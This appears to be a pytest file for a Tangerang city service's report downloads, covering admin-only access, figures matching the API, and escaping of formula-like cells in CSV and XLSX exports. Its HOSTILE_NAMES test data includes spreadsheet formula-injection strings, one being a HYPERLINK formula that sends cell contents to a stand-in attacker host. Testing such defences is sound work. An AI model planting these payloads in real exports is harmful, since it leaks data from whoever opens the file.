"""The Dinas's reports over HTTP: only a CITY_ADMIN downloads them, and they hold the figures
the API answers."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from server.city_reports import NUMBER, Sheet, csv_text, workbook
from tests.city.helpers import DASHBOARD, RECORD, ROLLOUT
from tests.conftest import city_admin, sign_up

PATHS = ["/reports/rollout.xlsx", "/reports/rollout.csv", "/reports/kecamatan.xlsx",
         "/reports/kecamatan.csv"]  # fmt: skip


def bearer(account: dict) -> dict[str, str]:
    return {"Authorization": f"Bearer {account['token']}"}


@pytest.mark.parametrize("path", PATHS)
async def test_only_a_city_admin_downloads(gql, client, path):
    anonymous = await client.get(path)
    assert (anonymous.status_code, anonymous.json()["code"]) == (401, "UNAUTHENTICATED")
    forged = await client.get(path, headers={"Authorization": "Bearer bukan-token"})
    assert forged.status_code == 401
    citizen = await client.get(path, headers=bearer(await sign_up(gql)))
    assert (citizen.status_code, citizen.json()["code"]) == (403, "FORBIDDEN")
    assert "Dinas" in citizen.json()["error"]
    admin = await client.get(path, headers=bearer(await city_admin(gql)))
    assert admin.status_code == 200
    assert "attachment" in admin.headers["content-disposition"]


async def test_the_rollout_workbook_and_csv_hold_the_rollout(gql, client):
    admin = await city_admin(gql)
    held = date(2026, 3, 17)
    answer = await gql(RECORD, {"kelurahanCode": "36.71.03.1001", "date": held.isoformat()},
                       token=admin["token"])  # fmt: skip
    assert answer["data"]["recordSocialization"]["ok"]
    rollout = (await gql(ROLLOUT))["data"]["kelurahanRollout"]

    response = await client.get("/reports/rollout.xlsx", headers=bearer(admin))
    assert response.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content))["Rollout Kelurahan"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Kode Kelurahan", "Kelurahan", "Kecamatan", "Sosialisasi Pertama", "Toko",
                       "Toko Terverifikasi", "Koperasi", "Anggota Aktif")  # fmt: skip
    assert len(rows) == 1 + 104
    for row, expected in zip(rows[1:], rollout, strict=True):
        socialized = expected["socializedAt"]
        assert row[0] == expected["kelurahan"]["code"]
        assert row[1] == expected["kelurahan"]["name"]
        assert row[2] == expected["kelurahan"]["kecamatan"]["name"]
        assert row[3] == (datetime.fromisoformat(socialized) if socialized else None)
        assert (row[4], row[6], row[7]) == (expected["shops"], expected["cooperatives"],
                                            expected["members"])  # fmt: skip
    first = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "36.71.03.1001")
    assert first[3].number_format == "DD/MM/YYYY"
    assert first[4].number_format == "#,##0"

    text = (await client.get("/reports/rollout.csv", headers=bearer(admin))).content
    assert text.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
    assert lines[0][:4] == ["Kode Kelurahan", "Kelurahan", "Kecamatan", "Sosialisasi Pertama"]
    assert [line[0] for line in lines[1:]] == [r["kelurahan"]["code"] for r in rollout]
    for line, expected in zip(lines[1:], rollout, strict=True):
        assert line[3] == (expected["socializedAt"] or "")
        assert [int(line[4]), int(line[6]), int(line[7])] == [
            expected["shops"], expected["cooperatives"], expected["members"]]  # fmt: skip


async def test_the_kecamatan_workbook_adds_up_to_the_city(gql, client):
    admin = await city_admin(gql)
    dashboard = (await gql(DASHBOARD))["data"]
    response = await client.get("/reports/kecamatan.xlsx", headers=bearer(admin))
    book = load_workbook(io.BytesIO(response.content))
    rows = list(book["Per Kecamatan"].iter_rows(values_only=True))
    assert rows[0][:4] == ("Kode Kecamatan", "Kecamatan", "Jumlah Kelurahan",
                           "Kelurahan Tersosialisasi")  # fmt: skip
    for row, expected in zip(rows[1:14], dashboard["kecamatanStats"], strict=True):
        assert row[:5] == (expected["kecamatan"]["code"], expected["kecamatan"]["name"],
                           expected["kelurahanTotal"], expected["kelurahanSocialized"],
                           expected["shops"])  # fmt: skip
        assert (row[6], row[8]) == (expected["cooperatives"], expected["members"])
    city = dashboard["cityStats"]
    total = rows[14]
    assert total[1] == "Kota Tangerang"
    assert total[2:] == (104, city["kelurahanSocialized"], city["shops"], city["verifiedShops"],
                         city["cooperatives"], city["digitalCooperatives"], city["members"])  # fmt: skip
    assert [sum(r[i] for r in rows[1:14]) for i in range(2, 9)] == list(total[2:])
    summary = book["Ringkasan Kota"]
    assert [c.value for c in summary[2]] == [
        city["products"],
        city["orders"],
        city["gmv"]["amount"],
    ]
    assert summary["C2"].number_format == '"Rp"#,##0'

    text = (await client.get("/reports/kecamatan.csv", headers=bearer(admin))).content
    lines = list(csv.reader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
    assert len(lines) == 1 + 13 + 1
    assert lines[-1][1:] == [str(v) for v in total[1:]]


HOSTILE_NAMES = ['=HYPERLINK("http://jahat.example/?d="&A1,"Klik")', "+62-21", "-1+1", "@SUM(A1)",
                 "\t=1+1", "\r=1+1"]  # fmt: skip


def hostile_sheet() -> Sheet:
    """Shop and cooperative names as a hostile owner may type them, beside negative numbers."""
    rows: list[list[int | str | date | None]] = [
        [name, "Koperasi Warga", -5, date(2026, 3, 17)] for name in HOSTILE_NAMES
    ]
    return Sheet("Uji", ["Toko", "Koperasi", "Selisih", "Tanggal"], rows, {2: NUMBER})


def test_csv_cells_that_start_like_a_formula_are_text():
    text = csv_text(hostile_sheet()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1:]
    assert [row[0] for row in rows] == ["'" + name for name in HOSTILE_NAMES]
    assert {row[1] for row in rows} == {"Koperasi Warga"}
    assert {row[2] for row in rows} == {"-5"}  # a negative number stays a number


def test_workbook_cells_that_start_like_a_formula_are_text():
    sheet = load_workbook(io.BytesIO(workbook([hostile_sheet()])))["Uji"]
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in names] == ["s"] * len(HOSTILE_NAMES)
    # XML reads a carriage return back as a line feed; the text is otherwise as written.
    assert [c.value.replace("\n", "\r") for c in names] == HOSTILE_NAMES
    amounts = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert {(c.value, c.data_type) for c in amounts} == {(-5, "n")}
